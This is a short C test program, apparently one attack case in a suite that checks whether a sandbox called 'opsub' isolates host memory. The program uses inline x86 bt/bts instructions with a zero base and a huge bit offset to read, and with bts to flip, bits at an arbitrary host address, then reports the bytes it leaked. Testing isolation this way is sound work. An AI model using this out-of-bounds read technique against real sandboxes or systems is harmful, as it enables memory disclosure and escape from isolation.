// Attack: read host memory bit by bit with bt/bts on a memory operand and a
// register bit offset: the CPU adds offset/8 to the address, so a tiny base
// (0) and a huge bit offset (8 * host address + i) reach any byte.
// Natively: reads the secret page (bts also sets each bit it reads).
// Under opsub: the 32-bit address size truncates the final address too.
// variants: bt bts
// stdin: hostaddr
#include "attack.h"

int main(int argc, char **argv)
{
	int set = !strcmp(variant(argc, argv), "bts");
	get_targets();
	uint8_t buf[24];
	memset(buf, 0, sizeof(buf));
	for (unsigned i = 0; i < 8 * sizeof(buf); i++) {
		uint64_t off = T.data * 8 + i, base = 0;
		uint8_t cf;
		if (set)
			__asm__ volatile("bts %2, (%1)\n setc %0" : "=r"(cf) : "r"(base), "r"(off) : "memory", "cc");
		else
			__asm__ volatile("bt %2, (%1)\n setc %0" : "=r"(cf) : "r"(base), "r"(off) : "memory", "cc");
		buf[i / 8] |= (uint8_t)(cf << (i % 8));
	}
	report_read(set ? "bts" : "bt", buf, sizeof(buf));
	return 0;
}
